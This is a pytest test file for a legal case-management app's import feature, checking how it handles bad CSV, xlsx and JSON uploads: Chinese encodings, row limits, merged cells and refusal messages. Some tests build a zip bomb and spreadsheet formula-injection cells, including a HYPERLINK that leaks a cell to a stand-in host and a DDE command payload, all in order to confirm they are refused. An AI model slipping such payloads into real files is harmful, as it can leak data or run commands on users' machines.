"""Bad import files (the bad-input rule): a zip bomb, too many rows, the encodings Chinese
firms' files come in, formulas and merged cells. Each is read correctly or refused with a
clear message in the reader's language, and nothing is written."""

from __future__ import annotations

import codecs
import io
import json
import zipfile

import pytest
from django.utils import translation
from openpyxl import Workbook

from lexcase.matters import importing
from lexcase.matters.importing import ImportReport, import_file
from lexcase.matters.models import Matter
from lexcase.matters.tests.test_importing import HEADER, counts, csv_text
from lexcase.parties.models import Party

pytestmark = pytest.mark.django_db
MIB = 2**20


def run_zh(data: bytes, filename: str, **kwargs) -> ImportReport:
    with translation.override("zh-hans"):
        return import_file(path_or_file=io.BytesIO(data), filename=filename, actor=None, **kwargs)


def messages(report: ImportReport) -> list[tuple[str, str, str]]:
    return [(e.row, e.field, e.message) for e in report.errors]


def workbook_bytes(rows, merged=()) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    for row in rows:
        sheet.append(row)
    for cells in merged:
        sheet.merge_cells(cells)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


ROW = ["", "华泰科技买卖合同纠纷", "civil", "open", "2024-03-04", "", "北京华泰科技有限公司"]
ROW += ["organization", "client", "", "", ""]


def test_an_xlsx_zip_bomb_is_refused_before_it_is_read(firm, settings):
    settings.LEXCASE_OFFICE_MAX_INFLATED_MB = 16
    good = workbook_bytes([HEADER.split(","), ROW])
    bomb = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(good)) as source:
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as out:
            for info in source.infolist():
                out.writestr(info.filename, source.read(info))
            with out.open("xl/media/image1.bin", "w") as entry:
                for _ in range(40):
                    entry.write(b"\0" * MIB)
    data = bomb.getvalue()
    assert len(data) < MIB
    before = counts()
    report = run_zh(data, "历史案件.xlsx")
    # The same words as a document upload's refusal (core.office.office_zip_refusal).
    assert messages(report) == [("", "file", "“历史案件.xlsx”解压后超过 16 MB，不予接受。")]
    assert (report.ok, counts()) == (False, before)


def test_reading_stops_at_the_row_limit_and_the_error_says_it(firm, monkeypatch):
    rows = [HEADER.split(",")] + [[f"H-{i}", *ROW[1:]] for i in range(1000)]
    data = workbook_bytes(rows)
    read = []
    original = importing._text
    monkeypatch.setattr(importing, "_text", lambda value: read.append(1) or original(value))
    before = counts()
    report = run_zh(data, "history.xlsx", max_rows=20)
    assert messages(report) == [
        (
            "",
            "file",
            "文件超过 20 行：此处一次最多导入 20 行。请拆分文件，或用命令导入"
            "（python -m lexcase import）。",
        )
    ]
    assert (report.ok, counts()) == (False, before)
    # The header and 21 rows were read (the 21st shows the limit passed), not 1,001.
    assert len(read) == 22 * 12


def test_blank_rows_do_not_count_towards_the_limit(firm):
    text = csv_text(",甲案,civil,open,2020-01-01,,,,,,,", *[""] * 50)
    assert run_zh(text.encode(), "x.csv", max_rows=1, dry_run=True).ok


NAMES = ("台灣積體電路製造股份有限公司", "陳思遠")
SIMPLIFIED = ("北京华泰科技有限公司", "王喆")


def encoded_csv(encoding: str, names: tuple[str, str], delimiter: str = ",") -> bytes:
    company, person = names
    text = "\n".join(
        (
            HEADER,
            f",{company}案,civil,open,2024-03-04,,{company},organization,client,,,",
            f",{company}案,civil,open,2024-03-04,,{person},person,opposing,,,",
        )
    )
    return (text.replace(",", delimiter) + "\n").encode(encoding)


@pytest.mark.parametrize(
    ("encoding", "names", "delimiter"),
    [
        ("gbk", SIMPLIFIED, ","),
        ("gb18030", SIMPLIFIED, ","),
        ("utf-8-sig", SIMPLIFIED, ","),
        ("utf-8", NAMES, ","),
        ("utf-16", SIMPLIFIED, "\t"),  # Excel's "Unicode text": a BOM and tabs
        ("utf-16-le", SIMPLIFIED, ","),  # no BOM
        ("big5", NAMES, ","),  # Excel in Taiwan or Hong Kong
    ],
)
def test_each_encoding_is_read_as_the_text_it_holds(firm, encoding, names, delimiter):
    report = run_zh(encoded_csv(encoding, names, delimiter), "history.csv")
    assert report.ok, messages(report)
    matter = Matter.objects.get(title=f"{names[0]}案")
    assert sorted(matter.matter_parties.values_list("party__name", flat=True)) == sorted(names)


def test_big5_is_not_read_as_gbk(firm):
    # Big5 bytes are valid GBK too: read as GBK they were imported as mojibake names.
    report = run_zh(encoded_csv("big5", ("國泰人壽保險股份有限公司", "林志玲")), "x.csv")
    assert report.ok, messages(report)
    assert Party.objects.filter(name="國泰人壽保險股份有限公司").count() == 1


@pytest.mark.parametrize(
    "data",
    [
        "title\n日本語のテキストファイルです\n".encode("shift_jis"),
        "number,title\n,café société\n".encode("latin-1"),
        b"\xef\xbb\xbfnumber,title\n,\xb8\xdf\n",  # a UTF-8 BOM and GBK after it
    ],
)
def test_an_unknown_encoding_is_refused_in_the_readers_language(firm, data):
    before = counts()
    report = run_zh(data, "history.csv")
    assert [(row, field) for row, field, _m in messages(report)] == [("", "file")]
    assert "CSV UTF-8" in report.errors[0].message
    assert report.errors[0].message.startswith("文件")
    assert (report.ok, counts()) == (False, before)


@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_a_problem(firm, sign):
    text = csv_text(
        f',{sign}HYPERLINK("http://x.example/?"&A1),civil,open,2024-03-04,,张伟,person,client,,,',
        f",乙案,civil,open,2024-03-04,,{sign}cmd|' /C calc'!A0,person,client,,,",
    )
    before = counts()
    report = run_zh(text.encode(), "x.csv")
    message = f"以“{sign}”开头，电子表格会把它当作公式执行：请去掉该符号，或直接填写数值。"
    assert messages(report) == [("2", "title", message), ("3", "party_name", message)]
    assert counts() == before


def test_merged_cells_read_as_the_sheet_shows_them(firm):
    # A matter's columns merged down the rows of its parties, as firms lay out a register.
    rows = [
        HEADER.split(","),
        ROW,
        ["", None, None, None, None, None, "张伟", "person", "opposing"],
        ["", None, None, None, None, None, "李娜", "person", "third_party"],
    ]
    data = workbook_bytes(rows, merged=["B2:B4", "C2:C4", "D2:D4", "E2:E4"])
    report = run_zh(data, "register.xlsx")
    assert report.ok, messages(report)
    matter = Matter.objects.get(title="华泰科技买卖合同纠纷")
    assert sorted(matter.matter_parties.values_list("party__name", flat=True)) == sorted(
        ["北京华泰科技有限公司", "张伟", "李娜"]
    )


def _json_doc(names) -> str:
    company, person = names
    return json.dumps(
        {
            "matters": [
                {
                    "title": f"{company}案",
                    "matter_type": "civil",
                    "status": "open",
                    "opened_on": "2024-03-04",
                    "parties": [
                        {"name": company, "kind": "organization", "role": "client"},
                        {"name": person, "kind": "person", "role": "opposing"},
                    ],
                }
            ]
        },
        ensure_ascii=False,
    )


@pytest.mark.parametrize(
    ("encoding", "names"),
    [
        ("utf-8", NAMES),
        ("utf-8-sig", SIMPLIFIED),  # Notepad's "UTF-8 with BOM"
        ("utf-16", SIMPLIFIED),  # Notepad's "Unicode": a BOM
        ("gb18030", SIMPLIFIED),  # Notepad's "ANSI" on a mainland Windows
        ("big5", NAMES),
    ],
)
def test_a_json_file_is_read_in_the_encodings_a_csv_file_is(firm, encoding, names):
    """A JSON file was read as UTF-8 only: saved by Notepad as "Unicode" or "ANSI" it was
    refused (byte 1 is not UTF-8) though the same names in a CSV file were imported."""
    report = run_zh(_json_doc(names).encode(encoding), "history.json")
    assert report.ok, messages(report)
    matter = Matter.objects.get(title=f"{names[0]}案")
    assert sorted(matter.matter_parties.values_list("party__name", flat=True)) == sorted(names)


def test_the_json_reader_shares_the_csv_decoding(monkeypatch):
    seen = []
    real = importing._decode_text

    def spy(data, **kwargs):
        seen.append(kwargs)
        return real(data, **kwargs)

    monkeypatch.setattr(importing, "_decode_text", spy)
    run_zh(b'{"matters": []}', "x.json")
    assert seen == [{"json_file": True}]


@pytest.mark.parametrize(
    ("data", "where", "message"),
    [
        (
            _json_doc(("日本語のテキスト", "山田")).encode("shift_jis"),
            "",
            "文件编码无法识别：不是 UTF-8、UTF-16、GBK（GB18030）或 Big5 文本。"
            "请另存为 UTF-8 编码后重新上传。",
        ),
        (
            codecs.BOM_UTF16_LE + b"{\x00\x00\xd8",  # a lone surrogate: not UTF-16
            "",
            "文件似为 UTF-16 编码，但无法读取：请重新另存为 UTF-8 编码。",
        ),
    ],
)
def test_a_json_file_in_another_encoding_is_refused_in_chinese(firm, data, where, message):
    before = counts()
    report = run_zh(data, "history.json")
    assert messages(report) == [(where, "file", message)]
    assert (report.ok, counts()) == (False, before)
